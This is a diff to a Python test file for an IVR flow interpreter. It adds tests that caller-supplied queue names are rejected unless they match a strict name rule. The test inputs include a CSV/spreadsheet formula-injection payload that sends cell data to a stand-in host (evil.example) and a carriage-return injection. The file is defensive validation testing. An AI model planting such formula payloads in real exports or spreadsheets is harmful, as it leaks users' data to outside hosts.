@@ -10,8 +10,10 @@ import pytest
 
 from ivr.actions import (
     CallWebhook,
+    CheckQueue,
     Done,
     Enqueue,
+    Hangup,
     Listen,
     Play,
     Say,
@@ -456,3 +458,41 @@ def test_play_on_voice_and_chat_and_the_channel_variable(tmp_path: Path) -> None
         "hangup completed",
         "done completed",
     ]
+
+
+# -- queue names rendered from what the caller said -------------------------------------------------------------
+
+RENDERED = {
+    "route": flow_of("""\
+    start: route
+    nodes:
+      route: {type: queue, queue: "{{ answer }}"}
+"""),
+    "status": flow_of("""\
+    start: status
+    nodes:
+      status: {type: queue_status, queue: "{{ answer }}", next: route}
+      route: {type: queue, queue: fixed}
+"""),
+}
+
+
+@pytest.mark.parametrize(
+    "answer",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "bil\rling", "a" * 41, "sales team", "+1-555", "@sum"],
+)
+@pytest.mark.parametrize("entry", ["route", "status"])
+def test_a_rendered_queue_name_outside_the_name_rule_fails_the_flow(answer: str, entry: str) -> None:
+    """A template may take a queue's name from what the caller said: only names the rule allows (letters, digits,
+    _ and -, at most 40) reach routing, reports, the wallboard and CSV cells."""
+    interp = Interpreter(RENDERED[entry], {"answer": answer})
+    out = interp.start(NOW)
+    assert not any(isinstance(a, Enqueue | CheckQueue) for a in out), out
+    assert Hangup("error") in out and out[-1] == Done("error")
+    error = next(a for a in out if isinstance(a, Step) and a.kind is StepKind.ERROR)
+    assert "is not a queue name" in error.detail or "is empty" in error.detail
+
+
+def test_a_rendered_queue_name_inside_the_rule_is_queued() -> None:
+    out = Interpreter(RENDERED["route"], {"answer": "sales_2-b"}).start(NOW)
+    assert next(a for a in out if isinstance(a, Enqueue)).queue == "sales_2-b"
